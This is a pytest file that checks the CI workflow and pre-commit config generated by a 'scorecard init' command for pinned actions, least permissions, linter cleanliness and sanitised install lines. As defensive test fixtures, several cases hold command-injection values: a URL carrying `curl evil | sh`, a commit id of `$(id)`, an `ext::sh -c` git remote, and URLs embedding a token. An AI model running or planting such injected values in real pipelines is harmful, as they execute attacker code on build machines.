"""The GitHub workflow `scorecard init` writes, action.yml and the examples: current, pinned, linted, and run.

The promises: every action is pinned to the commit of the release the table names; no value from a context is
expanded inside a shell; actionlint, zizmor (offline, default audits), GitHub's schemas and pre-commit's own
checks find nothing; the workflow installs the scorecard that wrote it; and its steps succeed on a real ledger.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from scorecard import DISTRIBUTION, __version__
from scorecard.cli import scaffold, workflow

from conftest import LEDGERS, REPO
from gitrepo import commit, git

BIN = Path(sys.executable).parent
EXAMPLES = sorted((REPO / "docs" / "examples").glob("*.yml"))


@pytest.fixture(scope="module")
def generated(tmp_path_factory) -> Path:
    """A ledger made by `scorecard init` (installed from the package index), in a git repository."""
    root = tmp_path_factory.mktemp("init") / "ledger"
    written, note = scaffold.init(root, install=workflow.install_spec(None))
    assert ".github/workflows/scorecard.yml" in written and note == ""
    return root


def test_the_example_is_what_init_writes_for_an_install_from_the_index(generated):
    text = (generated / ".github/workflows/scorecard.yml").read_text()
    assert (REPO / "docs/examples/scorecard.yml").read_text() == text
    assert f'"{DISTRIBUTION}=={__version__}"' in text
    assert not re.search(r"OWNER|COMMIT|TODO|REV\b", text)


def test_init_with_ci_none_writes_no_workflow(tmp_path):
    written, _ = scaffold.init(tmp_path / "l", ci="none", install=("x", ""))
    assert not any(rel.startswith(".github/") for rel in written) and not (tmp_path / "l" / ".github").exists()


@pytest.mark.parametrize("direct_url,spec,noted", [
    (None, f"{DISTRIBUTION}=={__version__}", False),
    (json.dumps({"url": "https://github.com/acme/scorecard.git",
                 "vcs_info": {"vcs": "git", "commit_id": "a" * 40, "requested_revision": "main"}}),
     f"{DISTRIBUTION} @ git+https://github.com/acme/scorecard.git@{'a' * 40}", False),
    (json.dumps({"url": "file:///home/me/scorecard", "dir_info": {"editable": True}}),
     f"{DISTRIBUTION}=={__version__}", True),
    (json.dumps({"url": "file:///tmp/scorecard_ledger-0.1.0-py3-none-any.whl", "archive_info": {}}),
     f"{DISTRIBUTION}=={__version__}", True),
    # a URL or commit that could close the quotes of the install line never reaches it
    (json.dumps({"url": 'https://x/"; curl evil | sh; "', "vcs_info": {"vcs": "git", "commit_id": "b" * 40}}),
     f"{DISTRIBUTION}=={__version__}", True),
    (json.dumps({"url": "https://github.com/a/b", "vcs_info": {"vcs": "git", "commit_id": "$(id)"}}),
     f"{DISTRIBUTION}=={__version__}", True),
    (json.dumps({"url": "https://hg.example/b", "vcs_info": {"vcs": "hg", "commit_id": "c" * 40}}),
     f"{DISTRIBUTION}=={__version__}", True),
    ("not json", f"{DISTRIBUTION}=={__version__}", True),
    ('{"a":' * 100_000, f"{DISTRIBUTION}=={__version__}", True),
    # credentials or an @ in the URL never reach the committed workflow; a subdirectory is kept
    (json.dumps({"url": "https://ghp_abc:x@github.com/o/r", "vcs_info": {"vcs": "git", "commit_id": "d" * 40}}),
     f"{DISTRIBUTION}=={__version__}", True),
    (json.dumps({"url": "https://github.com/o/r@main", "vcs_info": {"vcs": "git", "commit_id": "d" * 40}}),
     f"{DISTRIBUTION}=={__version__}", True),
    (json.dumps({"url": "https://github.com/o/mono", "vcs_info": {"vcs": "git", "commit_id": "e" * 40},
                 "subdirectory": "tools/scorecard"}),
     f"{DISTRIBUTION} @ git+https://github.com/o/mono@{'e' * 40}#subdirectory=tools/scorecard", False),
])
def test_the_workflow_installs_the_scorecard_that_wrote_it(tmp_path, direct_url, spec, noted):
    got, note = workflow.install_spec(direct_url)
    assert got == spec and bool(note) is noted
    root = tmp_path / "l"
    _, said = scaffold.init(root, install=(got, note))
    text = (root / ".github/workflows/scorecard.yml").read_text()
    assert text.count(f'-q "{spec}"') == 2 and said == note
    assert ("# CHECK: " in text) is noted


def test_init_says_what_to_check(tmp_path):
    from click.testing import CliRunner

    from scorecard.cli.commands import main

    result = CliRunner().invoke(main, ["init", str(tmp_path / "l")])
    assert result.exit_code == 0
    expected_note = workflow.running_install_spec()[1]  # this checkout is an editable install
    assert ("check: " in result.output) is bool(expected_note)


def _files(generated: Path) -> list[Path]:
    return [REPO / "action.yml", *EXAMPLES, generated / ".github/workflows/scorecard.yml"]


def _steps(path: Path) -> list[dict]:
    doc = yaml.safe_load(path.read_text())
    if "runs" in doc:
        return doc["runs"]["steps"]
    return [step for job in doc.get("jobs", {}).values() for step in job.get("steps", [])]


def test_every_action_is_pinned_to_the_commit_of_the_release_in_the_table(generated):
    seen = set()
    for path in [*_files(generated), REPO / "docs/recipes.md", REPO / "README.md"]:
        for line in path.read_text().splitlines():
            m = re.search(r"uses: ([\w./-]+)@(\S+)(.*)$", line)
            if not m or "OWNER/" in line:  # this project's own action, by its placeholder name
                continue
            action, ref, comment = m.groups()
            assert action in workflow.ACTIONS, f"{path.name}: {action} is not in the table"
            sha, release = workflow.ACTIONS[action]
            assert (ref, comment.strip()) == (sha, f"# {release}"), f"{path.name}: {line.strip()}"
            seen.add(action)
    assert seen == set(workflow.ACTIONS)  # every pin in the table is used


def test_no_expression_is_expanded_inside_a_shell(generated):
    for path in _files(generated):
        for step in _steps(path):
            assert "${{" not in str(step.get("run", "")), f"{path.name}: {step.get('name', step.get('run'))}"


def test_every_checkout_keeps_no_credentials_and_every_job_its_least_permissions(generated):
    for path in [*EXAMPLES, generated / ".github/workflows/scorecard.yml"]:
        doc = yaml.safe_load(path.read_text())
        if "jobs" not in doc:
            continue
        assert doc["permissions"] == {}
        for name, job in doc["jobs"].items():
            perms = job["permissions"]
            assert perms.get("contents") == "read" and set(perms) <= {"contents", "pages", "id-token"}, name
            assert ("pages" in perms) is ("deploy" in str(job["steps"])), name
            for step in job["steps"]:
                if "actions/checkout" in step.get("uses", ""):
                    assert step["with"]["persist-credentials"] is False


def _step(run: str, root: Path, env: dict[str, str]) -> subprocess.CompletedProcess:
    """One workflow run: step, as the runner's bash runs it."""
    return subprocess.run(["bash", "-e", "-c", run], cwd=root, env=env, capture_output=True, text=True, timeout=300)


def _run(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(args, cwd=cwd, capture_output=True, text=True, timeout=120,
                          env={**os.environ, "NO_COLOR": "1"})


def test_actionlint_finds_nothing(generated, tmp_path):
    """actionlint reads workflows, not action.yml: the action's steps are checked inside a generated job."""
    action = yaml.safe_load((REPO / "action.yml").read_text())
    wrapper = {"name": "action", "on": "push", "permissions": {}, "jobs": {"steps": {
        "runs-on": "ubuntu-latest", "permissions": {"contents": "read"},
        "steps": [{k: v for k, v in step.items() if k != "shell"} | {"shell": "bash"} if "run" in step else step
                  for step in action["runs"]["steps"]]}}}
    text = yaml.safe_dump(wrapper, sort_keys=False)
    text = text.replace("inputs.", "github.event.inputs.").replace("github.action_path", "github.workspace")
    (tmp_path / "action-steps.yml").write_text(text)
    files = [str(p) for p in (*EXAMPLES, generated / ".github/workflows/scorecard.yml", tmp_path / "action-steps.yml")
             if "dependabot" not in p.name]
    proc = _run(str(BIN / "actionlint"), "-no-color", *files, cwd=tmp_path)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_zizmor_offline_finds_nothing(generated):
    files = [str(p) for p in _files(generated) if "dependabot" not in p.name]
    proc = _run(str(BIN / "zizmor"), "--offline", "--no-progress", "--format", "plain", *files)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "No findings" in proc.stdout + proc.stderr


def test_githubs_schemas_accept_them(generated):
    checks = [("vendor.github-actions", REPO / "action.yml"),
              ("vendor.dependabot", REPO / "docs/examples/dependabot.yml"),
              *[("vendor.github-workflows", p) for p in [*EXAMPLES, generated / ".github/workflows/scorecard.yml"]
                if "dependabot" not in p.name]]
    for schema, path in checks:
        proc = _run(str(BIN / "check-jsonschema"), "--builtin-schema", schema, str(path))
        assert proc.returncode == 0, f"{path.name}: {proc.stdout}{proc.stderr}"


def test_pre_commit_accepts_the_hook_manifest_and_the_config_init_writes(generated):
    proc = _run(str(BIN / "pre-commit"), "validate-manifest", str(REPO / ".pre-commit-hooks.yaml"))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    proc = _run(str(BIN / "pre-commit"), "validate-config", str(generated / ".pre-commit-config.yaml"))
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_the_workflows_steps_succeed_when_run_by_hand(tmp_path):
    """Each job's run: steps (the install aside: this scorecard is installed) in a repository as the runner has it:
    a pull request checked out with the base branch as origin/main, then the default branch built."""
    root = tmp_path / "repo"
    shutil.copytree(LEDGERS / "base", root)  # a finished ledger: --strict refuses init's example text, rightly
    (root / ".github/workflows").mkdir(parents=True)
    (root / ".github/workflows/scorecard.yml").write_text(workflow.workflow_text(workflow.install_spec(None)[0]))
    git(root, "init", "-q", "-b", "main")
    commit(root, "ledger", 0)
    git(root, "update-ref", "refs/remotes/origin/main", "HEAD")
    git(root, "checkout", "-q", "-b", "pr")
    record = root / "claims/core/beta.yaml"
    record.write_text(record.read_text().replace("title: ", "title: Renamed ", 1))
    commit(root, "reword", 1)
    doc = yaml.safe_load((root / ".github/workflows/scorecard.yml").read_text())
    summary = tmp_path / "summary.md"
    env = {**os.environ, "GITHUB_STEP_SUMMARY": str(summary), "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}"}
    for job in ("validate", "publish"):
        if job == "publish":
            git(root, "checkout", "-q", "main")
        runner_temp = tmp_path / f"{job}-temp"
        runner_temp.mkdir()
        for step in doc["jobs"][job]["steps"]:
            if "run" not in step or "pip install" in step["run"]:
                continue
            step_env = {**env, "RUNNER_TEMP": str(runner_temp), **{k: "main" for k in step.get("env", {})}}
            proc = _step(step["run"], root, step_env)
            assert proc.returncode == 0, f"{job}: {step['run']}\n{proc.stdout}{proc.stderr}"
        assert (runner_temp / "site/index.html").is_file() and (runner_temp / "site/changes.html").is_file()
    assert "beta" in summary.read_text()
    assert not (root / "site").exists()  # built outside the checkout


def _scorecard_lines(job: dict) -> list[str]:
    return [line for step in job["steps"] for line in step.get("run", "").splitlines() if "scorecard " in line
            and "pip install" not in line]


def test_the_pull_request_runs_the_very_scorecard_lines_the_publish_runs(generated):
    """Issue 43 item 3: the pull request was validated without --strict and the default branch built with it, so a
    suspect claim or example text passed review and then stopped the publish. Both jobs now run the same lines
    (validate --strict, build --strict --history); the pull request adds only its diff for the summary."""
    doc = yaml.safe_load((generated / ".github/workflows/scorecard.yml").read_text())
    review, publish = _scorecard_lines(doc["jobs"]["validate"]), _scorecard_lines(doc["jobs"]["publish"])
    assert [line for line in review if "scorecard diff" not in line] == publish
    assert len(publish) == 2 and all("--strict" in line for line in publish)
    assert "scorecard validate --strict" in publish[0] and "build --strict --history" in publish[1]
    upload = next(s for s in doc["jobs"]["publish"]["steps"] if "upload-pages-artifact" in s.get("uses", ""))
    assert upload["with"]["path"] == "${{ runner.temp }}/site" and '--out "$RUNNER_TEMP/site"' in publish[1]


def test_strict_refuses_warnings_outside_git(tmp_path):
    """The shared check refuses a warning in both jobs; a staleness passes it only where git shows time alone raised
    it (tests/test_aged.py), which a corpus case outside git cannot."""
    from conftest import bad_case

    for case, code in (("source-stale", 1), ("stale-evidence", 1), ("unknown-unit", 1)):  # not in git: not aged
        root, _ = bad_case(case, tmp_path / case)
        for line in _scorecard_lines(yaml.safe_load(workflow.workflow_text("x")).get("jobs")["publish"]):
            proc = _step(line, root, {**os.environ, "RUNNER_TEMP": str(tmp_path / f"{case}-temp"),
                                      "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}"})
            assert proc.returncode == code, (case, line, proc.stdout, proc.stderr)


def test_a_fresh_init_is_refused_by_both_jobs_until_its_example_text_is_replaced(generated, tmp_path):
    """Both jobs run validate --strict, which refuses the example text init wrote (SC604) until it is replaced: a
    published example is worse than none, and a pull request that passes review can be published."""
    root = tmp_path / "fresh"
    scaffold.init(root, install=workflow.install_spec(None), example=True)
    git(root, "init", "-q", "-b", "main")
    commit(root, "init", 0)
    git(root, "update-ref", "refs/remotes/origin/main", "HEAD")
    doc = yaml.safe_load((root / ".github/workflows/scorecard.yml").read_text())
    env = {**os.environ, "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"), "BASE_REF": "main",
           "RUNNER_TEMP": str(tmp_path), "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}"}
    for job in ("validate", "publish"):
        validate = next(s["run"] for s in doc["jobs"][job]["steps"] if "scorecard validate" in s.get("run", ""))
        proc = _step(validate, root, env)
        assert proc.returncode == 1 and "SC604" in proc.stdout + proc.stderr, (job, proc.stdout)
    build = next(s["run"] for s in doc["jobs"]["publish"]["steps"] if "scorecard build" in s.get("run", ""))
    proc = _step(build, root, env)
    assert proc.returncode == 1 and "SC604" in proc.stdout + proc.stderr and not (tmp_path / "site").exists()




# --- issue 43 item 2: every install line works from where scorecard came ------------------------------------

def _checkout(tmp_path, remote: str = "https://github.com/acme/scorecard.git", on_remote: bool = True,
              clean: bool = True) -> tuple[str, str]:
    """A checkout scorecard could have been installed from (pip install -e): (its direct_url.json, HEAD)."""
    folder = tmp_path / "checkout"
    folder.mkdir()
    (folder / "setup.txt").write_text("x\n")
    git(folder, "init", "-q", "-b", "main")
    commit(folder, "first", 1)
    git(folder, "remote", "add", "origin", remote)
    head = git(folder, "rev-parse", "HEAD").strip()
    if on_remote:
        git(folder, "update-ref", "refs/remotes/origin/main", head)
    if not clean:
        (folder / "setup.txt").write_text("changed\n")
    return json.dumps({"url": folder.as_uri(), "dir_info": {"editable": True}}), head


def test_a_checkout_on_its_remote_is_installed_from_that_remote_in_both_files(tmp_path):
    direct_url, head = _checkout(tmp_path)
    found = workflow.origin(direct_url)
    assert found == workflow.Origin(f"{DISTRIBUTION} @ git+https://github.com/acme/scorecard.git@{head}", "",
                                    "https://github.com/acme/scorecard.git", head)
    root = tmp_path / "ledger"
    _, note = scaffold.init(root, install=found)
    assert note == ""
    hook = yaml.safe_load((root / ".pre-commit-config.yaml").read_text())
    assert hook["repos"] == [{"repo": "https://github.com/acme/scorecard.git", "rev": head,
                              "hooks": [{"id": "scorecard-validate", "verbose": True}]}]
    assert f'-q "{found.spec}"' in (root / ".github/workflows/scorecard.yml").read_text()
    if (BIN / "pre-commit").exists():
        proc = _run(str(BIN / "pre-commit"), "validate-config", str(root / ".pre-commit-config.yaml"))
        assert proc.returncode == 0, proc.stdout + proc.stderr


def test_an_ssh_remote_is_kept_for_pre_commit_and_spelled_for_pip(tmp_path):
    direct_url, head = _checkout(tmp_path, remote="git@github.com:acme/scorecard.git")
    found = workflow.origin(direct_url)
    assert found.repo == "git@github.com:acme/scorecard.git" and found.rev == head
    assert found.spec == f"{DISTRIBUTION} @ git+ssh://git@github.com/acme/scorecard.git@{head}"


@pytest.mark.parametrize("remote, on_remote, clean", [
    ("https://ghp_token:x@github.com/acme/scorecard.git", True, True),  # credentials never reach a committed file
    ("https://github.com/acme/scorecard.git", False, True),  # the commit is on no remote branch
    ("https://github.com/acme/scorecard.git", True, False),  # a tracked file changed since the commit
    ("/srv/git/scorecard.git", True, True),  # a path on this disk
    ("file:///srv/git/scorecard.git", True, True),
    ("ext::sh -c evil", True, True),
])
def test_a_checkout_that_cannot_be_reached_is_pinned_with_a_check_line_in_both_files(tmp_path, remote, on_remote,
                                                                                      clean):
    direct_url, _ = _checkout(tmp_path, remote, on_remote, clean)
    found = workflow.origin(direct_url)
    assert found.spec == f"{DISTRIBUTION}=={__version__}" and found.repo is None and "Check the install" in found.note
    root = tmp_path / "ledger"
    _, note = scaffold.init(root, install=found)
    assert note == found.note
    for name in (".pre-commit-config.yaml", ".github/workflows/scorecard.yml"):
        text = (root / name).read_text()
        assert text.startswith("# CHECK: ") or "\n# CHECK: " in text, name
        assert "ghp_token" not in text


def test_an_install_from_the_index_pins_the_version_in_both_files(tmp_path):
    found = workflow.origin(None)
    root = tmp_path / "ledger"
    scaffold.init(root, install=found)
    hook = yaml.safe_load((root / ".pre-commit-config.yaml").read_text())
    assert hook["repos"][0]["repo"] == "local"
    assert hook["repos"][0]["hooks"][0]["additional_dependencies"] == [f"{DISTRIBUTION}=={__version__}"]
    assert "# CHECK" not in (root / ".pre-commit-config.yaml").read_text()
